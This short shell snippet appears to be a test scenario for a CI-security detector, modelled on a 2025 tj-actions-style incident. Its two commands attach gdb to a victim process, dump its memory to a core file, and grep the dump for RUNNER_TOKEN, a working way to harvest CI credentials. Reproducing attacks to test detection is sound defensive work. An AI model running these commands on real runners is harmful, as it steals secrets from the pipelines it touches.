# incident: tj-actions' kin (2025): a debugger writes the memory of the runner's process to a file
# finding: debugger-attached
# needs: gdb
# Under a tracer a debugger waits for a child of its own that never stops as it expects.
timeout 10 gdb -p "$VICTIM" -batch -ex "generate-core-file $TMPDIR/core" >/dev/null 2>&1 || true
strings -a "$TMPDIR/core" 2>/dev/null | grep -a RUNNER_TOKEN | head -1 || true
